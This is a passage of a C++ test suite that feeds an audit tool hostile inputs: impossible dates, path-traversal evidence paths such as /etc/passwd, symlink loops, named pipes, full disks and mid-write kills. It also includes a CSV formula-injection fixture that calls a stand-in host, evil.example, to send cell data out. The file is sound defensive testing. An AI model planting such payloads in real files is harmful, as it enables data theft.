  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, "[wrong-type]")) << r.err;
  EXPECT_FALSE(Contains(r.err, "must be a number, not a number")) << r.err;
}

TEST(Hostile, DatesThatDoNotExistAreRefused) {
  TempDir dir;
  std::string ref = Source("tests/data/referentials/minimal.yaml");
  for (const char* date : {"2025-02-30", "2100-02-29", "2026-04-31", "2026-13-01", "2026-00-10"}) {
    std::string text = Replace(ref, "effective: 2026-01-01", std::string("effective: ") + date);
    std::string path = dir.Write("r.yaml", text);
    Ran r = Exec({"validate", path});
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_EQ(r.err.substr(0, r.err.find('\n') + 1),
              fmt::format("{}:{}: error: 'effective' '{}' is not a date that exists (expected "
                          "YYYY-MM-DD) [bad-date]\n",
                          path, Position(text, Offset(text, date)), date));
  }
  // 2024-02-29 exists.
  EXPECT_EQ(Exec({"validate", dir.Write("leap.yaml", Replace(ref, "effective: 2026-01-01",
                                                             "effective: 2024-02-29"))})
                .exit_code,
            0);

  std::string text =
      Replace(Source("tests/data/dossiers/ok.yaml"), "start: 2026-10-12", "start: 2025-02-30");
  std::string d = dir.Write("d.yaml", text);
  Ran r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err.substr(0, r.err.find('\n') + 1),
            fmt::format("{}:{}: error: 'start' '2025-02-30' is not a date that exists (expected "
                        "YYYY-MM-DD) [bad-date]\n",
                        d, Position(text, Offset(text, "2025-02-30"))));
  ExpectAuditWritesNothing(d, "d");
}

// Every date an audit leads to must be on or before 9999-12-31: `check` and `audit` refuse, at
// the audit's date, an audit whose certificate (its expiry, then the longest suspension or
// restoration: 36 + 6 months for the test referential) would run past it. On both sides of the
// limit: decided 9996-07-01, the certificate expires on 9999-06-30 and its restoration ends on
// 9999-12-30; a day later, it would end on 10000-01-01.
TEST(Hostile, AnAuditWhoseCertificateWouldOutliveYear9999IsRefused) {
  TempDir dir;
  auto dossier = [&](const std::string& date) {
    return Replace(Source("tests/data/dossiers/ok.yaml"), "start: 2026-10-12\n  end: 2026-10-12",
                   "start: " + date + "\n  end: " + date);
  };
  for (const std::string date : {"9998-03-02", "9996-07-02"}) {
    SCOPED_TRACE(date);
    std::string text = dossier(date);
    std::string d = dir.Write("late.yaml", text);
    Ran r = Check(d);
    EXPECT_EQ(r.exit_code, 1);
    EXPECT_EQ(r.out, "");
    EXPECT_TRUE(Contains(
        r.err, fmt::format("{}:{}: error: an audit decided on {} leads to dates past 9999-12-31, "
                           "the last date sceau handles (36 months of validity, then up to 6 "
                           "months of suspension or restoration) [bad-dates]\n",
                           d, Position(text, Offset(text, "end: " + date) + 5), date)))
        << r.err;
    EXPECT_FALSE(Contains(r.err, "10000-")) << r.err;
    ExpectAuditWritesNothing(d, "late");
  }
  std::string d = dir.Write("last.yaml", dossier("9996-07-01"));
  Ran r = Check(d);
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(Contains(r.err, "bad-dates")) << r.err;
}

TEST(Hostile, EvidencePathsLeavingTheDossierAreRefused) {
  TempDir dir;
  fs::create_directory(dir.path() + "/dossier");
  fs::create_directory(dir.path() + "/outside");
  dir.Write("outside/secret.pdf", "not the auditor's");
  fs::create_symlink("../outside/secret.pdf", dir.path() + "/dossier/link.pdf");
  fs::create_symlink(dir.path() + "/outside", dir.path() + "/dossier/linkdir");
  struct Case {
    std::string file;
    std::string why;
  };
  const std::vector<Case> cases = {
      {"../outside/secret.pdf",
       "leaves the dossier's folder ('..'): evidence files live in or below it"},
      {"'sub/../../outside/secret.pdf'",
       "leaves the dossier's folder ('..'): evidence files live in or below it"},
      {"/etc/passwd", "must be relative to the dossier's folder, not an absolute path"},
      {"'C:\\\\secret.pdf'", "must be relative to the dossier's folder, not an absolute path"},
      {"link.pdf", "('link.pdf') leaves the dossier's folder"},
      {"linkdir/secret.pdf", "('linkdir/secret.pdf') leaves the dossier's folder"},
  };
  std::string register_;
  for (size_t i = 0; i < cases.size(); ++i) {
    register_ += fmt::format("  - {{id: X{}, kind: record, title: Pièce {}, file: {}}}\n", i, i,
                             cases[i].file);
  }
  std::string anchor =
      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
  std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), anchor, anchor + register_);
  std::string d = dir.Write("dossier/d.yaml", text);
  Ran r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  for (size_t i = 0; i < cases.size(); ++i) {
    std::string head =
        fmt::format("{}:{}: error: the file of evidence 'X{}' {} [bad-path]\n", d,
                    Position(text, Offset(text, "file: " + cases[i].file) + 6), i, cases[i].why);
    EXPECT_TRUE(Contains(r.err, head)) << head << "\n" << r.err;
  }
  EXPECT_TRUE(Contains(r.err, d + ": 6 error(s) and 0 warning(s)\n")) << r.err;
  // Each case alone stops the audit.
  for (size_t i = 0; i < cases.size(); ++i) {
    std::string one =
        Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
                anchor + fmt::format("  - {{id: X, kind: record, title: Pièce, file: {}}}\n",
                                     cases[i].file));
    ExpectAuditWritesNothing(dir.Write("dossier/one.yaml", one), "one");
  }
}

TEST(Hostile, AnEvidenceSymlinkLoopIsReported) {
  // BUG: CheckEvidenceFile (engine/dossier_loader.cc) returns silently when weakly_canonical fails
  // (`if (ec) return;`): an evidence file that is a symbolic link loop gets no diagnostic at all,
  // neither bad-path nor missing-file, and the dossier checks "ok".
  // Repro: mkdir /tmp/d && cp tests/data/dossiers/ok.yaml /tmp/d/ && ln -s loop /tmp/d/loop, add
  //   `  - {id: E3, kind: record, title: Boucle, file: loop}` to its evidence, then
  //   sceau check /tmp/d/ok.yaml --referentials tests/data/referentials -> exit 0, no diagnostic.
  TempDir dir;
  fs::create_directory(dir.path() + "/dossier");
  fs::create_symlink("loop", dir.path() + "/dossier/loop");
  std::string anchor =
      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
  std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
                             anchor + "  - {id: E3, kind: record, title: Boucle, file: loop}\n");
  std::string d = dir.Write("dossier/d.yaml", text);
  Ran r = Check(d);
  EXPECT_TRUE(
      Contains(r.err, fmt::format("{}:{}: ", d, Position(text, Offset(text, "file: loop") + 6))))
      << r.err;
  EXPECT_TRUE(Contains(r.err, "the file of evidence 'E3'")) << r.err;
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: the file of evidence 'E3' ('loop') is a "
                                          "loop of symbolic links [bad-path]\n",
                                          d, Position(text, Offset(text, "file: loop") + 6))))
      << r.err;
}

// An evidence file that is a named pipe (nothing ever writes to it): `check` must end at once
// with a precise message, never wait for a writer. Exec kills sceau after its timeout and fails.
TEST(Hostile, AnEvidenceNamedPipeEndsCheckAtOnce) {
  TempDir dir;
  fs::create_directory(dir.path() + "/dossier");
  ASSERT_EQ(::mkfifo((dir.path() + "/dossier/pipe.pdf").c_str(), 0600), 0);
  std::string anchor =
      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
  std::string text = Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
                             anchor + "  - {id: E3, kind: record, title: Tube, file: pipe.pdf}\n");
  std::string d = dir.Write("dossier/d.yaml", text);
  RunOptions o;
  o.timeout_seconds = 20;
  Ran r = Check(d, o);
  EXPECT_FALSE(r.timed_out);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: the file of evidence 'E3' ('pipe.pdf') "
                                          "is a named pipe, not a file [bad-path]\n",
                                          d, Position(text, Offset(text, "file: pipe.pdf") + 6))))
      << r.err;
  EXPECT_TRUE(Contains(r.err, d + ": 1 error(s) and 0 warning(s)\n")) << r.err;
}

// An evidence path that is a folder: an error that says so.
TEST(Hostile, AnEvidenceFolderIsRefused) {
  TempDir dir;
  fs::create_directories(dir.path() + "/dossier/preuves");
  std::string anchor =
      "  - {id: E2, kind: sample, title: Dossiers de salariés, date: 2026-10-12}\n";
  std::string text =
      Replace(Source("tests/data/dossiers/ok.yaml"), anchor,
              anchor + "  - {id: E3, kind: record, title: Dossier, file: preuves}\n");
  std::string d = dir.Write("dossier/d.yaml", text);
  Ran r = Check(d);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, fmt::format("{}:{}: error: the file of evidence 'E3' ('preuves') is "
                                          "a folder, not a file [bad-path]\n",
                                          d, Position(text, Offset(text, "file: preuves") + 6))))
      << r.err;
}

// ---- where the reports go ----------------------------------------------------------------------

TEST(Hostile, AnOutputFolderThatIsNotWritableIsReported) {
  if (!CanRunUnprivileged()) GTEST_SKIP() << "cannot run sceau as uid 65534 here";
  OutFolder out("ok");  // root's, 0755 inside a 0755 folder: uid 65534 may read, not write
  fs::permissions(fs::path(out.path()).parent_path(), fs::perms(0755));
  fs::permissions(out.path(), fs::perms(0755));
  if (::geteuid() != 0) fs::permissions(out.path(), fs::perms(0555));
  RunOptions o;
  o.unprivileged = true;
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", out.path()},
               o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "sceau audit: " + out.path() +
                       "/ok.json: cannot create a file there: "
                       "Permission denied\n");
  fs::permissions(out.path(), fs::perms(0755));
  EXPECT_TRUE(out.Untouched());
}

TEST(Hostile, AnOutputFolderThatCannotBeCreatedIsNamed) {
  // BUG: RunAudit (cli/audit_commands.cc) ignores the error of fs::create_directories(o.out, ec),
  // so when --out cannot be created the message is about the first report and gives the wrong
  // reason: "sceau audit: OUT/sub/ok.json: cannot create a file there: No such file or directory"
  // instead of naming the folder and "Permission denied". (`sceau report` does the same.)
  // Repro (as root): mkdir /tmp/ro && setpriv --reuid=65534 --regid=65534 --clear-groups
  //   build/sceau audit tests/data/dossiers/ok.yaml --referentials tests/data/referentials --out
  //   /tmp/ro/sub
  if (!CanRunUnprivileged()) GTEST_SKIP() << "cannot run sceau as uid 65534 here";
  TempDir dir;
  fs::permissions(dir.path(), fs::perms(::geteuid() == 0 ? 0755 : 0555));
  std::string sub = dir.path() + "/sub";
  RunOptions o;
  o.unprivileged = true;
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", sub},
               o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_TRUE(Contains(r.err, sub)) << r.err;
  EXPECT_TRUE(Contains(r.err, "Permission denied")) << r.err;
  EXPECT_FALSE(Contains(r.err, "No such file or directory")) << r.err;
}

// Sizes of the reports of tests/data/dossiers/ok.yaml, from a run without limits.
struct Reference {
  std::map<std::string, std::string> bytes;  // "ok.json" -> content
};

Reference ReferenceReports(const std::string& dossier, const std::string& refs) {
  TempDir out;
  Ran r = Exec({"audit", dossier, "--referentials", refs, "--out", out.path(), "-q"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  Reference ref;
  for (const std::string& n : Names(out.path())) ref.bytes[n] = ReadFile(out.path() + "/" + n);
  return ref;
}

// An --out folder holding an earlier ok.json, ok.csv and ok.pdf.
std::string EarlierSet(const TempDir& dir) {
  std::string out = dir.path() + "/out";
  fs::create_directory(out);
  for (const char* ext : {"json", "csv", "pdf"}) dir.Write(std::string("out/ok.") + ext, kEarlier);
  return out;
}

// The file-size limit that lets the JSON and the CSV through and stops the PDF half way.
long long LimitBetween(const Reference& ref) {
  size_t small = std::max(ref.bytes.at("ok.json").size(), ref.bytes.at("ok.csv").size());
  size_t pdf = ref.bytes.at("ok.pdf").size();
  EXPECT_LT(small, pdf);
  return static_cast<long long>((small + pdf) / 2);
}

TEST(Hostile, AFullDiskFailsTheAuditCleanly) {
  // A full disk, simulated with a file-size limit (SIGXFSZ ignored, as a full disk sends none):
  // writing the PDF fails half way with EFBIG, as it would with ENOSPC.
  Reference ref = ReferenceReports("tests/data/dossiers/ok.yaml", "tests/data/referentials");
  TempDir dir;
  std::string out = EarlierSet(dir);
  RunOptions o;
  o.file_size_limit = LimitBetween(ref);
  o.ignore_sigxfsz = true;
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", out},
               o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, "sceau audit: " + out + "/ok.pdf: write failed: File too large\n");
  // No partial file, no temporary file; the earlier PDF is untouched.
  EXPECT_EQ(Names(out), (std::vector<std::string>{"ok.csv", "ok.json", "ok.pdf"}));
  EXPECT_EQ(ReadFile(out + "/ok.pdf"), kEarlier);
  // The JSON and the CSV, written before, are whole: the earlier ones or the new ones.
  for (const char* name : {"ok.json", "ok.csv"}) {
    std::string now = ReadFile(out + "/" + name);
    EXPECT_TRUE(now == kEarlier || now == ref.bytes.at(name)) << name;
  }
  // With only the PDF asked for, on a disk with room for 2 KiB.
  TempDir dir2;
  std::string out2 = EarlierSet(dir2);
  o.file_size_limit = 2048;
  r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
            "--out", out2, "--format", "pdf"},
           o);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, "sceau audit: " + out2 + "/ok.pdf: write failed: File too large\n");
  EXPECT_EQ(Names(out2), (std::vector<std::string>{"ok.csv", "ok.json", "ok.pdf"}));
  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"})
    EXPECT_EQ(ReadFile(out2 + "/" + name), kEarlier);
}

TEST(Hostile, AFileSizeLimitLeavesEveryEarlierReportWhole) {
  // sceau ignores SIGXFSZ: past the limit, write() fails with EFBIG. The reports are written all
  // or nothing, so a limit that stops any one of them leaves the whole earlier set untouched.
  Reference ref = ReferenceReports("tests/data/dossiers/ok.yaml", "tests/data/referentials");
  TempDir dir;
  std::string out = EarlierSet(dir);
  RunOptions o;
  o.file_size_limit = LimitBetween(ref);
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", out},
               o);
  EXPECT_EQ(r.signal, 0);
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "write failed: File too large")) << r.err;
  EXPECT_EQ(Names(out), (std::vector<std::string>{"ok.csv", "ok.json", "ok.pdf"}));
  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"})
    EXPECT_EQ(ReadFile(out + "/" + name), kEarlier) << name;
}

TEST(Hostile, AFileSizeLimitIsAnErrorNotAKill) {
  // BUG: sceau leaves SIGXFSZ at its default, so under a file-size limit (`ulimit -f`) the kernel
  // kills it mid-write: exit status 153 from a shell, no message at all. Ignoring SIGXFSZ at
  // start-up (cli/main.cc) turns this into write() failing with EFBIG, which RunAudit reports
  // ("write failed: File too large") with exit code 1. (The files stay safe either way.)
  // Repro: sh -c 'ulimit -f 4; exec build/sceau audit tests/data/dossiers/ok.yaml
  //   --referentials tests/data/referentials --out /tmp/o --format pdf'; echo $?   -> 153
  TempDir dir;
  std::string out = EarlierSet(dir);
  RunOptions o;
  o.file_size_limit = 2048;
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", out, "--format", "pdf"},
               o);
  EXPECT_EQ(r.signal, 0);
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_EQ(r.err, "sceau audit: " + out + "/ok.pdf: write failed: File too large\n");
}

TEST(Hostile, AFailedAuditKeepsTheEarlierSetOfReportsWhole) {
  // BUG: RunAudit (cli/audit_commands.cc) says "a failure leaves no half set behind", but it
  // renames each report into place as soon as it is written: when the PDF cannot be written (disk
  // full), the JSON and the CSV have already been replaced by the new ones, beside the earlier PDF.
  // The folder then holds a mixed set (new JSON and CSV, old PDF) and exit code 1. Writing every
  // temporary file first and renaming them only once all are written would keep the earlier set.
  // Repro: see AFullDiskFailsTheAuditCleanly; afterwards ok.json and ok.csv are the new ones.
  Reference ref = ReferenceReports("tests/data/dossiers/ok.yaml", "tests/data/referentials");
  TempDir dir;
  std::string out = EarlierSet(dir);
  RunOptions o;
  o.file_size_limit = LimitBetween(ref);
  o.ignore_sigxfsz = true;
  Ran r = Exec({"audit", "tests/data/dossiers/ok.yaml", "--referentials", "tests/data/referentials",
                "--out", out},
               o);
  EXPECT_EQ(r.exit_code, 1);
  for (const char* name : {"ok.json", "ok.csv", "ok.pdf"}) {
    EXPECT_TRUE(ReadFile(out + "/" + name) == kEarlier) << name << " was replaced";
  }
}

TEST(Hostile, CsvCellsThatLookLikeFormulasAreNeutralised) {
  TempDir dir;
  std::string dossier = Source("tests/data/dossiers/ok.yaml");
  dossier = dossier.substr(0, Offset(dossier, "assessments:")) +
            "assessments:\n"
            "  C-1.1: {grade: NCm, finding: \"+33 6 12 34 56 78\", evidence: [E1]}\n"
            "  C-1.2: {grade: PS, finding: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1, "
            "\\\"clic\\\")\"}\n"
            "  C-2.1:\n"
            "    grade: NCm\n"
            "    finding: \"@SUM(A1:A9)\"\n"
            "    evidence: [E2]\n"
            "    sample: [{id: a, pass: true}, {id: b, pass: true}, {id: c, pass: false}, "
            "{id: d, pass: true}, {id: e, pass: true}]\n"
            "  C-2.2:\n"
            "    grade: PS\n"
            "    finding: \"-1\"\n"
            "    evidence: [E1]\n"
            "    indicators: {taux-sorties-dynamiques: 55}\n";
  std::string d = dir.Write("f.yaml", dossier);
  for (const char* sep : {",", ";"}) {
    TempDir out;
    Ran r = Exec({"audit", d, "--referentials", "tests/data/referentials", "--out", out.path(),
                  "--csv-separator", sep});
    ASSERT_EQ(r.exit_code, 0) << r.err;
    std::string csv = ReadFile(out.path() + "/f.csv");
    auto cell = [&](const std::string& text) { return sep + text + sep; };
    EXPECT_TRUE(Contains(csv, cell("'+33 6 12 34 56 78"))) << csv;
    EXPECT_TRUE(Contains(csv, cell("'@SUM(A1:A9)"))) << csv;
    EXPECT_TRUE(Contains(csv, cell("'-1"))) << csv;
    // Quoted (it holds double quotes, and a comma), the prefix inside the quotes.
    EXPECT_TRUE(
        Contains(csv, cell("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1, \"\"clic\"\")\"")))
        << csv;
    // No cell starts with a formula character.
    for (const char* bad : {"=", "+", "-", "@"}) {
      EXPECT_FALSE(Contains(csv, sep + std::string(bad))) << bad << "\n" << csv;
      EXPECT_FALSE(Contains(csv, sep + std::string("\"") + bad)) << bad << "\n" << csv;
    }
    // The JSON keeps the auditor's words as written.
    nlohmann::json result = nlohmann::json::parse(ReadFile(out.path() + "/f.json"));
    std::set<std::string> findings;
    for (const auto& a : result["actions"]) findings.insert(a["finding"].get<std::string>());
    EXPECT_EQ(findings,
              (std::set<std::string>{"+33 6 12 34 56 78",
                                     "=HYPERLINK(\"http://evil.example/?x=\"&A1, \"clic\")",
                                     "@SUM(A1:A9)", "-1"}));
  }
}

// ---- killed while writing ----------------------------------------------------------------------

// True when process `pid` has `n` or more different nameless files of `dir` open or had them
// (O_TMPFILE: "/dir/#1234 (deleted)"); `seen` keeps the ones seen so far.
bool SawTemporaryFiles(pid_t pid, const std::string& dir, size_t n, std::set<std::string>* seen) {
  std::error_code ec;
  for (const auto& e : fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd", ec)) {
    std::error_code link_ec;
    std::string target = fs::read_symlink(e.path(), link_ec).string();
    if (!link_ec && target.rfind(dir + "/#", 0) == 0) seen->insert(target);
  }
  return seen->size() >= n;
}

TEST(Hostile, KillingTheAuditMidWriteLeavesOnlyWholeReports) {
  // A generated referential of 10,000 criteria and a full dossier: the reports weigh about 18 MB
  // (JSON), 0.6 MB (CSV) and 2 MB (PDF), and writing them takes over 100 ms. Under
  // AddressSanitizer everything runs several times slower, so a fifth of it is as long to write.
#if defined(__SANITIZE_ADDRESS__)
  const int criteria = 2000;
#else
  const int criteria = 10000;
#endif
  // Hang guards, not speed targets: the uncut audit under ASan on a loaded 2-core machine has
  // taken 26 s.
  const int guard_seconds = 120;
  if (std::system("python3 -c '' >/dev/null 2>&1") != 0) GTEST_SKIP() << "python3 is needed";
  TempDir data;
  std::string refs = data.path() + "/refs";
  fs::create_directory(refs);
  std::string dossier = data.path() + "/big.yaml";
  std::string gen = fmt::format(
      "python3 '{0}/bench/gen_referential.py' --criteria {3} --deps {4} --seed 1 > "
      "'{1}/ref.yaml' "
      "&& python3 '{0}/bench/gen_dossier.py' '{1}/ref.yaml' --seed 1 > '{2}' 2>/dev/null",
      SCEAU_SOURCE_DIR, refs, dossier, criteria, 2 * criteria);
  ASSERT_EQ(std::system(gen.c_str()), 0) << gen;

  // The complete reports, for comparison: the same inputs give the same bytes.
  std::map<std::string, std::string> whole;
  {
    TempDir out;
    RunOptions slow;
    slow.timeout_seconds = guard_seconds;
    Ran r = Exec({"audit", dossier, "--referentials", refs, "--out", out.path(), "-q"}, slow);
    ASSERT_EQ(r.exit_code, 0) << r.err.substr(0, 2000);
    for (const std::string& n : Names(out.path())) whole[n] = ReadFile(out.path() + "/" + n);
    ASSERT_EQ(whole.size(), 3u);
    ASSERT_TRUE(nlohmann::json::accept(whole.at("big.json")));
    std::string cmd = "qpdf --check '" + out.path() + "/big.pdf' >/dev/null 2>&1";
    ASSERT_EQ(std::system(cmd.c_str()), 0);
  }

  // Each kill: after a delay from the start, or once the n-th temporary file is open plus a delay.
  struct Kill {
    int after_ms;
    size_t temporary;  // 0: count from the start; 1 JSON, 2 CSV, 3 PDF
  };
  const std::vector<Kill> kills = {{5, 0}, {20, 0}, {50, 0}, {100, 0}, {200, 0},
                                   {0, 1}, {30, 1}, {0, 2},  {0, 3}};
  int landed_mid_write = 0;
  for (size_t k = 0; k < kills.size(); ++k) {
    const Kill& kill = kills[k];
    SCOPED_TRACE(fmt::format("kill {}: {} ms after {}", k, kill.after_ms,
                             kill.temporary ? fmt::format("temporary file {}", kill.temporary)
                                            : std::string("the start")));
    TempDir dir;
    std::string out = fs::canonical(dir.path()).string() + "/out";
    fs::create_directory(out);
    // Every other run has earlier reports to replace: the JSON and the PDF, not the CSV.
    bool earlier = k % 2 == 1;
    if (earlier) {
      dir.Write("out/big.json", "{\"earlier\": true}\n");
      dir.Write("out/big.pdf", kEarlier);
    }
    RunOptions guarded;
    guarded.timeout_seconds = guard_seconds;
    Sceau sceau({"audit", dossier, "--referentials", refs, "--out", out, "-q"}, guarded);
    bool triggered = kill.temporary == 0;
    std::set<std::string> seen;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(guard_seconds);
    while (!triggered && std::chrono::steady_clock::now() < deadline) {
      if (SawTemporaryFiles(sceau.pid(), out, kill.temporary, &seen)) {
        triggered = true;
        break;
      }
      siginfo_t info = {};
      if (::waitid(P_PID, static_cast<id_t>(sceau.pid()), &info, WEXITED | WNOHANG | WNOWAIT) ==
              0 &&
          info.si_pid != 0) {
        break;  // finished first
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(1));
    }
    if (triggered && kill.temporary) ++landed_mid_write;
    std::this_thread::sleep_for(std::chrono::milliseconds(kill.after_ms));
    ::kill(sceau.pid(), SIGKILL);
    Ran r = sceau.Wait();
    ASSERT_FALSE(r.timed_out);

    // Whatever is there is whole: absent, the earlier report, or the complete new one. A kill in
    // the moment between linking a flushed report beside the earlier one and renaming it over it
    // leaves that whole copy as `.<name>.sceau-new`, which the next run removes.
    bool copy_beside = false;
    for (const std::string& name : Names(out)) {
      SCOPED_TRACE(name);
      const std::string suffix = ".sceau-new";
      if (earlier && name.front() == '.' && name.size() > suffix.size() &&
          name.compare(name.size() - suffix.size(), suffix.size(), suffix) == 0) {
        std::string report = name.substr(1, name.size() - 1 - suffix.size());
        ASSERT_TRUE(whole.count(report)) << "left behind: " << name;
        EXPECT_TRUE(ReadFile(out + "/" + name) == whole.at(report));
        copy_beside = true;
        continue;
      }
      ASSERT_TRUE(whole.count(name)) << "left behind: " << name;
      std::string now = ReadFile(out + "/" + name);
      if (earlier && name == "big.json" && now == "{\"earlier\": true}\n") continue;
      if (earlier && name == "big.pdf" && now == kEarlier) continue;
      EXPECT_TRUE(now == whole.at(name)) << now.size() << " bytes, not " << whole.at(name).size();
      if (name == "big.json") {
        EXPECT_TRUE(nlohmann::json::accept(now));
      }
      if (name == "big.pdf") {
        std::string cmd = "qpdf --check '" + out + "/big.pdf' >/dev/null 2>&1";
        EXPECT_EQ(std::system(cmd.c_str()), 0);
      }
    }
    if (earlier) {  // replaced or not, never lost
      EXPECT_TRUE(fs::exists(out + "/big.json"));
      EXPECT_TRUE(fs::exists(out + "/big.pdf"));
    }
    if (copy_beside) {
      Ran again = Exec({"audit", dossier, "--referentials", refs, "--out", out, "-q"}, guarded);
      ASSERT_EQ(again.exit_code, 0) << again.err.substr(0, 2000);
      EXPECT_EQ(Names(out), (std::vector<std::string>{"big.csv", "big.json", "big.pdf"}));
    }
  }
  // The temporary-file triggers really caught sceau writing (at least the JSON, 80 ms long here).
  EXPECT_GE(landed_mid_write, 2);
}

}  // namespace
}  // namespace sceau
